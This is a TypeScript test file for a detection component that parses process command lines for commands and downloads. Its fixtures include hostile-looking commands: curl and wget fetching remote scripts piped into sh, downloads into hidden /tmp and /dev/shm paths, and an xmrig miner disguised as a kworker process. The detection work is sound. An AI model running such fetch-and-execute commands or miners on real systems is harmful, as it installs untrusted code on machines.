import { describe, expect, it } from 'vitest';
import { buildTestHostEvent } from '../test-host-event.js';
import { commandsOf } from './command-list.js';
import { downloadsOf } from './download-list.js';

function commands(argv: string[], exe?: string) {
  const process = exe ? { argv, exe } : { argv };
  return commandsOf(buildTestHostEvent({ kind: 'process', process }, 'e', 0));
}

describe('commandsOf', () => {
  it('lists the commands of a -c script', () => {
    const list = commands([
      'bash',
      '-c',
      'curl -fsSL http://203.0.113.9/x.sh | sh',
    ]);
    expect(list.map((c) => c.name)).toEqual(['bash', 'curl', 'sh']);
    expect(list[1]?.pipedTo).toBe('sh');
  });

  it('unwraps nohup, env and busybox', () => {
    expect(
      commands(['nohup', 'env', 'A=1', 'busybox', 'wget', 'x']).map(
        (c) => c.name,
      ),
    ).toEqual(['nohup', 'env', 'busybox', 'wget']);
  });

  it('reads combined shell flags', () => {
    expect(commands(['/bin/sh', '-ec', 'id']).map((c) => c.name)).toEqual([
      'sh',
      'id',
    ]);
  });

  it('skips the value of -o', () => {
    expect(
      commands(['bash', '-o', 'pipefail', '-c', 'ps aux']).map((c) => c.name),
    ).toEqual(['bash', 'ps']);
  });

  it('adds the executable name of a renamed binary', () => {
    expect(
      commands(['[kworker/0:1]', '-o', 'x'], '/tmp/.x/xmrig').map(
        (c) => c.name,
      ),
    ).toEqual(['0:1]', 'xmrig']);
  });
});

describe('downloadsOf', () => {
  it('reads host, port and standard output of curl', () => {
    const [download] = downloadsOf(
      commands(['bash', '-c', 'curl -fsSL http://203.0.113.9:8080/x | sh']),
    );
    expect(download).toEqual({
      tool: 'curl',
      url: 'http://203.0.113.9:8080/x',
      host: '203.0.113.9',
      port: '8080',
      output: '-',
      pipedTo: 'sh',
    });
  });

  it('reads wget output from combined flags', () => {
    const [download] = downloadsOf(
      commands(['wget', '-qO/tmp/.k', 'https://example.com/k']),
    );
    expect(download?.output).toBe('/tmp/.k');
    expect(download?.port).toBe('443');
  });

  it('reads curl -o and a URL without scheme', () => {
    const [download] = downloadsOf(
      commands(['curl', '-sLo', '/dev/shm/x', '198.51.100.7/payload']),
    );
    expect(download?.output).toBe('/dev/shm/x');
    expect(download?.host).toBe('198.51.100.7');
  });

  it('saves wget downloads in the working directory by default', () => {
    const [download] = downloadsOf(commands(['wget', 'http://h.example/a']));
    expect(download?.output).toBe('');
  });

  it('finds URLs in interpreter one-liners', () => {
    const [download] = downloadsOf(
      commands([
        'python3',
        '-c',
        "import urllib.request;urllib.request.urlretrieve('http://[2001:db8::5]/m','/tmp/m')",
      ]),
    );
    expect(download?.host).toBe('2001:db8::5');
  });

  it('ignores curl to a file path', () => {
    expect(downloadsOf(commands(['curl', '-o', 'out.sh', 'file.txt']))).toEqual(
      [],
    );
  });
});
